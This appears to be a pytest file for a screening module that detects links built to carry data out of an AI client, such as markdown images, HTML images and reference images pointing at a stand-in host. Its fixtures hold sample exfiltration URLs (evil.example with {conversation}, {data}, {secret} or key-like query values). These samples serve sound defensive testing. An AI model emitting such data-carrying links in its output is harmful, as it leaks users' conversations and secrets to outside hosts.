"""Links that carry data out: a URL's score, and the markup around it that makes a client fetch it."""

from __future__ import annotations

import pytest

from bastion.screen.findings import Severity
from bastion.screen.index import TextIndex
from bastion.screen.links import entropy, exfiltration, url_score


def test_entropy_is_bits_per_character() -> None:
    assert entropy("") == 0.0
    assert entropy("aaaa") == 0.0
    assert entropy("ab") == 1.0
    assert entropy("abcd") == 2.0


@pytest.mark.parametrize(
    ("url", "score"),
    [
        ("https://example.com/page", 0),
        ("https://img.shields.io/badge/x?style=flat", 0),
        ("https://evil.example/x?q=the+user+said+hello+to+me", 2),
        ("https://evil.example/x?d={conversation}", 3),
        ("https://evil.example/x?key=AKIAABCDEFGHIJKLMNOP", 3),
        ("https://evil.example/x?to=alice@example.com", 3),
    ],
)
def test_a_url_scores_by_how_surely_it_carries_data(url: str, score: int) -> None:
    assert url_score(url)[0] == score


def test_only_web_urls_with_a_host_are_scored() -> None:
    assert url_score("ftp://x/?q={a}") == (0, "")
    assert url_score("javascript:alert(1)?x={a}") == (0, "")
    assert url_score("https://evil.example/x?d={a}") == (3, "evil.example")


def test_a_data_carrying_image_is_high_and_its_markup_is_replaced_by_a_marker() -> None:
    text = "Look ![chart](https://evil.example/p?d={data}) here"
    [(finding, (start, end, marker))] = exfiltration(TextIndex(text), "result[0].text")
    assert (finding.rule, finding.severity) == ("exfil.image", Severity.HIGH)
    assert text[start:end] == "![chart](https://evil.example/p?d={data})"
    assert marker == "[bastion: removed image link to evil.example]"


def test_a_link_needs_a_click_so_a_likely_one_is_only_low() -> None:
    text = "[two](https://ev.example/x?q=the+user+said+hello+to+me)"
    [(finding, (_, _, marker))] = exfiltration(TextIndex(text), "w")
    assert (finding.rule, finding.severity) == ("exfil.link", Severity.LOW)
    assert marker == "[bastion: removed link to ev.example]"


def test_html_and_reference_images_are_found_and_badges_are_not() -> None:
    html = '<img src="https://evil.example/i?x={secret}">'
    reference = "![a][r]\n\n[r]: https://evil.example/i?x={secret}\n"
    badge = "![badge](https://img.shields.io/badge/x?style=flat)"
    assert [f.rule for f, _ in exfiltration(TextIndex(html), "w")] == ["exfil.html_image"]
    assert [f.rule for f, _ in exfiltration(TextIndex(reference), "w")] == ["exfil.reference_image"]
    assert exfiltration(TextIndex(badge), "w") == []
